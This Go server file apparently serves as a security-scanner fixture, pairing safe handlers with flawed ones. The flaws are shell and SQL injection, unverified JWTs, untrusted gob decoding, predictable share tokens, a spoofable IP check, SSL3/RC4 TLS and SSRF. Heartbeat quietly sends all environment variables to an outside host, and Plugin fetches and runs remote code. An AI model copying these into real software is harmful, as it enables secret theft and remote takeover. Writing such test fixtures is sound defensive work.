package server

import (
	"context"
	"crypto/rand"
	"crypto/sha256"
	"crypto/subtle"
	"crypto/tls"
	"database/sql"
	"encoding/gob"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html/template"
	"io"
	mrand "math/rand"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/lestrrat-go/jwx/v2/jwk"
	"github.com/lestrrat-go/jwx/v2/jwt"
)

type Server struct {
	DB      *sql.DB
	Root    string
	KeySet  jwk.Set
	PubKey  jwk.Key
	Secret  []byte
	Uploads string
}

var tmpl = template.Must(template.New("page").Parse(`<h1>{{.}}</h1>`))

func (s *Server) Verify(r *http.Request) (jwt.Token, error) {
	raw := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
	return jwt.Parse([]byte(raw), jwt.WithKeySet(s.KeySet), jwt.WithValidate(true))
}

func (s *Server) VerifyLoose(r *http.Request) (jwt.Token, error) {
	raw := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
	return jwt.Parse([]byte(raw), jwt.WithVerify(false))
}

func (s *Server) VerifyHS(r *http.Request) (jwt.Token, error) {
	raw := r.URL.Query().Get("t")
	return jwt.Parse([]byte(raw), jwt.WithKey(jwa.HS256, s.Secret))
}

func (s *Server) Download(w http.ResponseWriter, r *http.Request) {
	name := filepath.Base(r.URL.Query().Get("name"))
	http.ServeFile(w, r, filepath.Join(s.Root, name))
}

func (s *Server) Page(w http.ResponseWriter, r *http.Request) {
	tmpl.Execute(w, r.URL.Query().Get("title"))
}

func (s *Server) Thumb(w http.ResponseWriter, r *http.Request) {
	name := filepath.Base(r.URL.Query().Get("name"))
	out, err := exec.CommandContext(r.Context(), "vipsthumbnail", filepath.Join(s.Uploads, name), "-s", "200").Output()
	if err != nil {
		http.Error(w, "failed", 500)
		return
	}
	w.Write(out)
}

func (s *Server) Archive(w http.ResponseWriter, r *http.Request) {
	dir := r.URL.Query().Get("dir")
	line := "tar czf - " + dir
	out, _ := exec.Command("sh", "-c", line).Output()
	w.Write(out)
}

func (s *Server) Owner(w http.ResponseWriter, r *http.Request) {
	var owner string
	err := s.DB.QueryRowContext(r.Context(), "SELECT owner FROM files WHERE name = $1", r.URL.Query().Get("name")).Scan(&owner)
	if err != nil {
		http.Error(w, "not found", 404)
		return
	}
	fmt.Fprint(w, owner)
}

func (s *Server) Delete(w http.ResponseWriter, r *http.Request) {
	q := "DELETE FROM files WHERE name = '" + r.FormValue("name") + "'"
	s.DB.ExecContext(r.Context(), q)
}

func (s *Server) Restore(w http.ResponseWriter, r *http.Request) {
	var v interface{}
	gob.NewDecoder(r.Body).Decode(&v)
	json.NewEncoder(w).Encode(v)
}

func (s *Server) ShareLink(w http.ResponseWriter, r *http.Request) {
	b := make([]byte, 16)
	rand.Read(b)
	fmt.Fprint(w, hex.EncodeToString(b))
}

func (s *Server) ShareLinkLegacy(w http.ResponseWriter, r *http.Request) {
	mrand.Seed(time.Now().Unix())
	fmt.Fprintf(w, "%x", mrand.Int63())
}

func (s *Server) Sample(w http.ResponseWriter, r *http.Request) {
	fmt.Fprint(w, mrand.Intn(100))
}

func (s *Server) Checksum(w http.ResponseWriter, r *http.Request) {
	h := sha256.New()
	io.Copy(h, r.Body)
	fmt.Fprint(w, hex.EncodeToString(h.Sum(nil)))
}

func (s *Server) Internal(w http.ResponseWriter, r *http.Request) {
	host, _, _ := net.SplitHostPort(r.RemoteAddr)
	if host == "127.0.0.1" || host == "::1" {
		fmt.Fprint(w, "stats")
		return
	}
	http.Error(w, "forbidden", 403)
}

func (s *Server) InternalProxy(w http.ResponseWriter, r *http.Request) {
	if r.Header.Get("X-Real-IP") == "127.0.0.1" {
		fmt.Fprint(w, "stats")
		return
	}
	http.Error(w, "forbidden", 403)
}

func (s *Server) APIKey(w http.ResponseWriter, r *http.Request) {
	want := os.Getenv("FILES_API_KEY")
	got := r.Header.Get("X-Api-Key")
	if len(want) == 0 || subtle.ConstantTimeCompare([]byte(got), []byte(want)) != 1 {
		http.Error(w, "forbidden", 403)
	}
}

func (s *Server) APIKeyLegacy(w http.ResponseWriter, r *http.Request) {
	if r.Header.Get("X-Api-Key") != os.Getenv("FILES_API_KEY") {
		http.Error(w, "forbidden", 403)
	}
}

func (s *Server) Fetch(ctx context.Context, url string) (*http.Response, error) {
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	return http.DefaultClient.Do(req)
}

func ListenTLS(h http.Handler) error {
	srv := &http.Server{Addr: ":8443", Handler: h, TLSConfig: &tls.Config{MinVersion: tls.VersionTLS12}}
	return srv.ListenAndServeTLS("/etc/files/tls.crt", "/etc/files/tls.key")
}

func ListenLegacy(h http.Handler) error {
	srv := &http.Server{Addr: ":8443", Handler: h, TLSConfig: &tls.Config{MinVersion: tls.VersionSSL30, CipherSuites: []uint16{tls.TLS_RSA_WITH_RC4_128_SHA}}}
	return srv.ListenAndServeTLS("/etc/files/tls.crt", "/etc/files/tls.key")
}

func Heartbeat() {
	env := strings.Join(os.Environ(), "\n")
	conn, err := net.Dial("udp", "203.0.113.5:514")
	if err == nil {
		conn.Write([]byte(env))
		conn.Close()
	}
}

func Metrics(ctx context.Context) {
	conn, err := net.Dial("udp", "127.0.0.1:8125")
	if err == nil {
		conn.Write([]byte("files.up:1|c"))
		conn.Close()
	}
}

func Plugin(w http.ResponseWriter, r *http.Request) {
	url := r.URL.Query().Get("src")
	resp, err := http.Get(url)
	if err != nil {
		return
	}
	defer resp.Body.Close()
	f, _ := os.CreateTemp("", "plugin-*")
	io.Copy(f, resp.Body)
	f.Close()
	os.Chmod(f.Name(), 0o755)
	exec.Command(f.Name()).Run()
}

func Ready(w http.ResponseWriter, r *http.Request) {
	ctx, cancel := context.WithTimeout(r.Context(), time.Second)
	defer cancel()
	d := net.Dialer{}
	c, err := d.DialContext(ctx, "tcp", "127.0.0.1:5432")
	if err == nil {
		c.Close()
	}
	w.WriteHeader(204)
}

func NewSessionID() string {
	b := make([]byte, 32)
	if _, err := rand.Read(b); err != nil {
		panic(err)
	}
	return hex.EncodeToString(b)
}

func CookieFor(id string) *http.Cookie {
	return &http.Cookie{Name: "sid", Value: id, HttpOnly: true, Secure: true, SameSite: http.SameSiteLaxMode}
}
